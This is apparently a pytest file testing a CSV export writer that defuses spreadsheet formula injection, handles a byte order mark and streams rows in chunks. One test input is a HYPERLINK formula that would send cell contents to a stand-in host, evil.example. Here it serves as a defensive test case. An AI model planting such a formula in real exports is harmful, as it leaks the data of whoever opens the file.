"""The exports' CSV writer: cells a spreadsheet will not run, text that survives the round trip,
and the byte order mark that makes Excel read UTF-8."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from agrochat.http._csv import BOM, CHUNK_CHARS, csv_chunks, safe_cell


def parse(chunks: list[bytes]) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1, "ver")',
        "+51 987 654 321",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_could_start_a_formula_gets_a_leading_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Rosa Quispe", "maíz", "riego 2=3", "a@b.pe", "", " =1"])
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


def test_numbers_stay_numbers_even_when_negative() -> None:
    assert safe_cell(-3) == -3
    assert safe_cell(2.5) == 2.5


def test_empty_booleans_and_times_are_written_plainly() -> None:
    assert safe_cell(None) == ""
    assert (safe_cell(True), safe_cell(False)) == ("sí", "no")
    assert safe_cell(dt.datetime(2026, 9, 15, 7, 5, 59)) == "2026-09-15 07:05"
    assert safe_cell(dt.date(2026, 9, 15)) == "2026-09-15"


def test_the_file_starts_with_a_byte_order_mark_and_the_header_before_any_row_is_read() -> None:
    def rows():
        raise AssertionError("no row may be read before the header is out")
        yield

    first = next(csv_chunks(["nombre", "cultivo"], rows()))
    assert first.startswith(BOM.encode("utf-8")) and first[:3] == b"\xef\xbb\xbf"
    assert first[3:] == b"nombre,cultivo\r\n"


def test_quotes_commas_newlines_and_accents_come_back_as_written() -> None:
    rows = [
        ['Dijo "no sé", luego se fue', "línea 1\nlínea 2", "ñandú, maíz y café"],
        ["=1+1", "@cmd", "ok"],
    ]
    parsed = parse(list(csv_chunks(["a", "b", "c"], rows)))
    assert parsed == [
        ["a", "b", "c"],
        rows[0],
        ["'=1+1", "'@cmd", "ok"],
    ]


def test_a_formula_in_the_header_is_made_inert_too() -> None:
    assert parse(list(csv_chunks(["=cmd"], [])))[0] == ["'=cmd"]


def test_rows_are_sent_in_chunks_as_they_come_not_gathered_into_one() -> None:
    read = 0

    def rows():
        nonlocal read
        for i in range(2000):
            read += 1
            yield [i, "x" * 60]

    chunks = csv_chunks(["n", "texto"], rows())
    next(chunks)  # the header
    second = next(chunks)
    # The first chunk of rows left while most rows were still unread.
    assert CHUNK_CHARS <= len(second) < 2 * CHUNK_CHARS
    assert read < 1000
    rest = list(chunks)
    assert read == 2000
    assert len(parse([BOM.encode(), b"n,texto\r\n", second, *rest])) == 2001
